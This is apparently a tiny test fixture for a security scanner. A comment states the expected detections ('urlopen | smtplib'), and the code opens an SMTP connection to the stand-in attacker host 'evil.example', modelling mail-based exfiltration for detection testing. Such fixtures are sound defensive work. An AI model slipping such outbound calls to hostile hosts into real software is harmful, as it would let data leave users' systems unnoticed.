# expect: urlopen | smtplib
import smtplib
smtplib.SMTP('evil.example')
